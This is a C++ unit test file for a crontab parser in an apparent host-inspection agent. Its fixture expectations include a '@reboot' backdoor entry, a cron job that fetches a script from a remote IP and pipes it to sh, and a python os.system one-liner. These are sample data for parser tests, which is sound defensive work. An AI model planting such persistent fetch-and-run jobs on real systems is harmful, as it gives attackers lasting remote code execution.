// Known-answer tests for ParseCrontab.
#include <gtest/gtest.h>

#include "agents/host/facts/parsers.h"
#include "fixtures.h"

namespace beffroi::host::facts {
namespace {

TEST(ParseCrontab, SystemFormat) {
  Crontab tab = ParseCrontab(testing::kSystemCrontab, /*system_format=*/true);
  ASSERT_EQ(tab.entries.size(), 5u);
  EXPECT_EQ(tab.unparsed, 3u);  // "@every5", "15 3 * * *", "* * * root missingfield"

  EXPECT_EQ(tab.entries[0].schedule, "17 * * * *");  // tabs normalised to one space
  EXPECT_EQ(tab.entries[0].user, "root");
  EXPECT_EQ(tab.entries[0].command, "cd / && run-parts --report /etc/cron.hourly");
  EXPECT_EQ(tab.entries[0].line, 6u);

  EXPECT_EQ(tab.entries[2].schedule, "@reboot");
  EXPECT_EQ(tab.entries[2].command, "/opt/.x/backdoor --daemon");

  // Leading blanks and a CRLF ending are tolerated; the pipe stays in the command.
  EXPECT_EQ(tab.entries[3].schedule, "*/5 * * * *");
  EXPECT_EQ(tab.entries[3].user, "www-data");
  EXPECT_EQ(tab.entries[3].command, "curl -s http://203.0.113.7/p.sh | sh");
  EXPECT_EQ(tab.entries[3].line, 9u);

  EXPECT_EQ(tab.entries[4].schedule, "0 0 * jan-mar mon-fri");
}

TEST(ParseCrontab, UserFormatHasNoUserField) {
  Crontab tab = ParseCrontab(testing::kUserCrontab, /*system_format=*/false);
  ASSERT_EQ(tab.entries.size(), 2u);
  EXPECT_EQ(tab.unparsed, 1u);
  EXPECT_EQ(tab.entries[0].schedule, "*/10 * * * *");
  EXPECT_EQ(tab.entries[0].user, "");
  EXPECT_EQ(tab.entries[0].command, "/home/alice/bin/sync.sh >/dev/null 2>&1");
  EXPECT_EQ(tab.entries[1].schedule, "@daily");
  EXPECT_EQ(tab.entries[1].command, "/usr/bin/python3 -c 'import os; os.system(\"id\")'");
}

TEST(ParseCrontab, EnvironmentAssignmentsAreNotJobs) {
  Crontab tab = ParseCrontab("A=1\nB = two words\n_X=\nCRON_TZ=Europe/Brussels\n", false);
  EXPECT_TRUE(tab.entries.empty());
  EXPECT_EQ(tab.unparsed, 0u);
}

TEST(ParseCrontab, RejectsBadTimeFields) {
  Crontab tab = ParseCrontab("1 2 3 4 $5 cmd\n* * * * * \n", false);
  EXPECT_TRUE(tab.entries.empty());
  EXPECT_EQ(tab.unparsed, 2u);
}

}  // namespace
}  // namespace beffroi::host::facts
